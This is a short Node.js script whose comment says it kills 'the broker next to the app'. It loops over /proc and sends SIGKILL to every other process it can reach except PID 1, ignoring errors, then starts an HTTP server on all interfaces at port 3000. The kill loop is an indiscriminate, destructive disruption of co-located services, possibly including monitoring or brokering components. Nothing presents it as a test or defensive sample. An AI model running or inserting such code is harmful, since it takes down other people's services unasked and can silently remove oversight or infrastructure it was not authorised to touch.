// Killing the broker next to the app.
import fs from 'node:fs';
import http from 'node:http';
for (const p of fs.readdirSync('/proc')) {
  if (p > 1 && p != process.pid) try { process.kill(+p, 'SIGKILL'); } catch {}
}
http.createServer((req, res) => res.end('ok')).listen(3000, '0.0.0.0');
